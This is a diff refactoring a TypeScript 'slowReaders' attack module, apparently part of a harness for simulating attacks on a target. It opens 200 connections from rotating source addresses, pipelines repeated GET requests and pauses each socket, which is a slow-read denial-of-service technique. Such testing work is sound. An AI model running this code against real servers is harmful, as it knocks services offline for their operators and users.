@@ -1,6 +1,6 @@
-import { connect, type Socket } from "node:net";
+import type { Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
-import { addressOf } from "./addresses.ts";
+import { addressOf, connectFrom } from "./ask.ts";
 import { type Attack, type Field, isOver, scaled } from "./attack.ts";
 
 const CONNECTIONS = 200;
@@ -41,12 +41,8 @@ export const slowReaders: Attack = async (field) => {
 };
 
 function begin({ target }: Field, n: number): Socket {
-  const { hostname, port } = new URL(target.origin);
-  const socket = connect({
-    host: hostname,
-    port: Number(port || 80),
-    localAddress: addressOf(target.attackers, 1_000 + (n % ADDRESSES)),
-  });
+  const from = addressOf(target.attackers, 1_000 + (n % ADDRESSES));
+  const socket = connectFrom(from, target.origin);
   socket.pause();
   socket.write(
     "GET /vendor/frappe-charts.iife.min.js HTTP/1.1\r\nHost: x\r\n\r\n".repeat(REQUESTS),
